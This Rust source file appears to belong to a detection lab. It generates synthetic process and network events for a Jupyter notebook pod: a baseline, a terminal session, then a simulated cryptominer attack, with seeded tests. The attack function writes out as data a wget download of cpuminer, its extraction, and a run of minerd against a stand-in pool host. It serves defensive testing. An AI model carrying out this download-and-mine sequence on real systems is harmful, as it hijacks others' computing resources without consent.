//! The tutorial's story as hand-written events: a Jupyter notebook pod's baseline, a terminal,
//! then a miner-like download-and-run. Everything that changes from run to run in reality
//! (pids, the kernel's loopback ports, ephemeral ports, the kernel's connection file, the
//! addresses DNS gives) comes from the seed, so tests can show the engine does not care.

use guardlab_events::{ProcessKey, Protocol};

use crate::stream::{Exec, Rng, Stream, pod_container, prog};

pub const CG: u64 = 4242;
pub const IMAGE: &str = "jupyter/minimal-notebook:latest";
pub const PY: &str = "/opt/conda/bin/python3.11";
pub const POD_IP: &str = "198.18.0.2";
pub const HOST_IP: &str = "198.18.0.1";
pub const RESOLVER: &str = "198.18.0.53";

/// What differs between two runs of the same behaviour.
pub struct Run {
    pub seed: u64,
    pub start_s: u64,
    pub first_pid: u32,
    pub container_id: &'static str,
    pub pod: &'static str,
    /// The addresses pypi.org and files.pythonhosted.org resolve to this time.
    pub pypi: [&'static str; 2],
}

pub const FIRST: Run = Run {
    seed: 0x5eed_0001,
    start_s: 1_732_780_800,
    first_pid: 4100,
    container_id: "6f1c2a9e0b7d4c3f8a1e5b2d9c0f7a6e4b3d2c1a0f9e8d7c6b5a4f3e2d1c0b9a",
    pod: "jupyter-notebook-7d9f8c6b5-x2k4p",
    pypi: ["198.18.0.50", "198.18.0.51"],
};

pub const REPLAY: Run = Run {
    seed: 0xdead_beef,
    start_s: 1_732_867_200,
    first_pid: 23_517,
    container_id: "0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b",
    pod: "jupyter-notebook-7d9f8c6b5-q8zz1",
    pypi: ["198.18.0.150", "198.18.0.151"],
};

pub struct Notebook {
    pub s: Stream,
    pub rng: Rng,
    pub server: ProcessKey,
    pub kernel: ProcessKey,
    pub kernel_ports: Vec<u16>,
}

fn exec<'a>(exe: &'a str, comm: &'a str, argv: &'a [&'a str]) -> Exec<'a> {
    Exec {
        exe,
        comm,
        argv,
        euser: "jovyan",
        euid: 1000,
    }
}

impl Notebook {
    /// The pod starts: the Jupyter server (the container's first process), the trainer's
    /// browser connects through the port forward, a kernel starts and the server reaches its
    /// five ZeroMQ channels over loopback on random ports.
    pub fn start(run: &Run) -> Notebook {
        let mut s = Stream::new(run.start_s, run.first_pid);
        let mut rng = Rng(run.seed);
        s.container(pod_container(CG, run.container_id, IMAGE, run.pod));
        let argv = [
            PY,
            "/opt/conda/bin/jupyter-lab",
            "--ip=0.0.0.0",
            "--port=8888",
            "--no-browser",
        ];
        // The parent is the runtime's process, outside the container.
        let server = s.spawn(CG, Some(ProcessKey(900, 1)), exec(PY, "jupyter-lab", &argv));
        s.listen(CG, server, Protocol::Tcp, "0.0.0.0", 8888);
        for _ in 0..3 {
            let port = rng.port();
            s.accept(CG, server, (POD_IP, 8888), (HOST_IP, port));
        }
        s.wait_ms(250);
        s.skip_pids((rng.next_u64() % 7) as u32);
        let file = format!(
            "/home/jovyan/.local/share/jupyter/runtime/kernel-{:016x}.json",
            rng.next_u64()
        );
        let argv = [
            "/opt/conda/bin/python",
            "-m",
            "ipykernel_launcher",
            "-f",
            file.as_str(),
        ];
        let kernel = s.spawn(CG, Some(server), exec(PY, "python", &argv));
        let kernel_ports: Vec<u16> = (0..5).map(|_| rng.port()).collect();
        for &port in &kernel_ports {
            s.listen(CG, kernel, Protocol::Tcp, "127.0.0.1", port);
        }
        let mut nb = Notebook {
            s,
            rng,
            server,
            kernel,
            kernel_ports,
        };
        nb.kernel_roundtrip();
        nb
    }

    /// The server talks to the kernel: loopback, random ephemeral ports.
    pub fn kernel_roundtrip(&mut self) {
        for i in 0..self.kernel_ports.len() {
            let (port, eph) = (self.kernel_ports[i], self.rng.port());
            self.s.connect(
                CG,
                self.server,
                Protocol::Tcp,
                ("127.0.0.1", eph),
                ("127.0.0.1", port),
            );
            self.s
                .accept(CG, self.kernel, ("127.0.0.1", port), ("127.0.0.1", eph));
        }
        let port = self.rng.port();
        self.s
            .accept(CG, self.server, (POD_IP, 8888), (HOST_IP, port));
    }

    /// A DNS lookup by `key`: the datagram to the resolver, then the answer.
    pub fn resolve(&mut self, key: ProcessKey, name: &str, addr: &str) {
        let port = self.rng.port();
        self.s
            .connect(CG, key, Protocol::Udp, (POD_IP, port), (RESOLVER, 53));
        self.s.dns(CG, name, &[addr]);
    }

    pub fn https(&mut self, key: ProcessKey, addr: &str, port: u16) {
        let local = self.rng.port();
        self.s
            .connect(CG, key, Protocol::Tcp, (POD_IP, local), (addr, port));
    }

    /// The cells `print("Hello world!")` and `!pip install --upgrade pip setuptools wheel`.
    pub fn baseline_cells(&mut self, run: &Run) {
        self.kernel_roundtrip(); // print("Hello world!")
        self.s.wait_ms(1000);
        self.kernel_roundtrip();
        let cmd = "pip install --upgrade pip setuptools wheel";
        let sh = self.s.spawn(
            CG,
            Some(self.kernel),
            exec("/usr/bin/dash", "sh", &["/bin/sh", "-c", cmd]),
        );
        let argv = [
            PY,
            "/opt/conda/bin/pip",
            "install",
            "--upgrade",
            "pip",
            "setuptools",
            "wheel",
        ];
        let pip = self.s.spawn(CG, Some(sh), exec(PY, "pip", &argv));
        self.resolve(pip, "pypi.org", run.pypi[0]);
        self.https(pip, run.pypi[0], 443);
        self.resolve(pip, "files.pythonhosted.org", run.pypi[1]);
        self.https(pip, run.pypi[1], 443);
        self.https(pip, run.pypi[1], 443);
        self.s.exit(CG, pip, 0);
        self.s.exit(CG, sh, 0);
        self.kernel_roundtrip();
    }

    /// A terminal opened in Jupyter (terminado starts a login shell), and `ls`.
    pub fn terminal(&mut self) -> ProcessKey {
        self.s.wait_ms(5000);
        let bash = self.s.spawn(
            CG,
            Some(self.server),
            exec("/usr/bin/bash", "bash", &["/bin/bash", "-l"]),
        );
        self.command(bash, prog("/usr/bin/ls", &["ls", "--color=auto"], "jovyan"));
        bash
    }

    /// `bash` runs a command to completion.
    pub fn command(&mut self, bash: ProcessKey, e: Exec) -> ProcessKey {
        self.s.wait_ms(700);
        let key = self.s.spawn(CG, Some(bash), e);
        self.s.exit(CG, key, 0);
        key
    }

    /// `id`, then download a miner, unpack it and run it against a pool.
    pub fn attack(&mut self, bash: ProcessKey) -> ProcessKey {
        self.command(bash, prog("/usr/bin/id", &["id"], "jovyan"));
        self.s.wait_ms(700);
        let url = "https://sourceforge.net/projects/cpuminer/files/pooler-cpuminer-2.5.1-linux-x86_64.tar.gz/download";
        let wget = self.s.spawn(
            CG,
            Some(bash),
            prog("/usr/bin/wget", &["wget", url], "jovyan"),
        );
        self.resolve(wget, "sourceforge.net", "198.18.0.60");
        self.https(wget, "198.18.0.60", 443);
        self.s.exit(CG, wget, 0);
        self.s.wait_ms(700);
        let tar = self.s.spawn(
            CG,
            Some(bash),
            prog("/usr/bin/tar", &["tar", "-xzf", "download"], "jovyan"),
        );
        let gzip = self.s.spawn(
            CG,
            Some(tar),
            prog("/usr/bin/gzip", &["gzip", "-d"], "jovyan"),
        );
        self.s.exit(CG, gzip, 0);
        self.s.exit(CG, tar, 0);
        self.s.wait_ms(700);
        let argv = [
            "./minerd",
            "--url",
            "fakeminingpool.example.com",
            "-u",
            "ME",
            "-p",
            "passwd",
        ];
        let miner = self
            .s
            .spawn(CG, Some(bash), prog("/home/jovyan/minerd", &argv, "jovyan"));
        self.resolve(miner, "fakeminingpool.example.com", "198.18.0.70");
        self.https(miner, "198.18.0.70", 3333);
        miner
    }
}

/// The baseline of one run, from the pod's start.
pub fn baseline(run: &Run) -> Notebook {
    let mut nb = Notebook::start(run);
    nb.baseline_cells(run);
    nb
}

#[cfg(test)]
mod tests {
    use guardlab_events::{Event, EventBody};

    use super::*;

    /// The programs exec'd, in order, with their parent's position in the list.
    fn programs(events: &[Event]) -> Vec<(String, Vec<String>, Option<usize>)> {
        let mut keys = Vec::new();
        let mut out = Vec::new();
        for event in events {
            if let EventBody::Exec(exec) = &event.body {
                let parent = exec.parent.and_then(|p| keys.iter().position(|k| *k == p));
                keys.push(exec.key);
                // The kernel's connection file is named at random: leave it out.
                let argv = exec
                    .argv
                    .iter()
                    .filter(|a| !a.contains("/runtime/kernel-"))
                    .cloned()
                    .collect();
                out.push((exec.exe.clone(), argv, parent));
            }
        }
        out
    }

    #[test]
    fn two_runs_differ_only_in_what_changes_between_runs() {
        let (first, replay) = (baseline(&FIRST), baseline(&REPLAY));
        assert_eq!(programs(&first.s.events), programs(&replay.s.events));
        assert_ne!(first.server, replay.server, "other pids");
        assert_ne!(
            first.kernel_ports, replay.kernel_ports,
            "other loopback ports"
        );
        assert_ne!(first.s.events[0].ts, replay.s.events[0].ts, "another time");
    }

    #[test]
    fn the_server_is_the_container_s_first_process_and_the_attack_runs_under_the_shell() {
        let mut nb = baseline(&FIRST);
        let bash = nb.terminal();
        let miner = nb.attack(bash);
        let exec = |key| {
            nb.s.events.iter().find_map(|e| match &e.body {
                EventBody::Exec(x) if x.key == key => Some(x.clone()),
                _ => None,
            })
        };
        let server = exec(nb.server).expect("the server execs");
        assert_eq!(server.cgroup_id, CG);
        assert_eq!(
            server.parent,
            Some(ProcessKey(900, 1)),
            "the runtime's process"
        );
        let miner = exec(miner).expect("the miner execs");
        assert_eq!(
            (miner.exe.as_str(), miner.parent),
            ("/home/jovyan/minerd", Some(bash))
        );
        let EventBody::Container(info) = &nb.s.events[0].body else {
            panic!("the container comes first");
        };
        assert_eq!((info.cgroup_id, info.image.as_str()), (CG, IMAGE));
    }
}
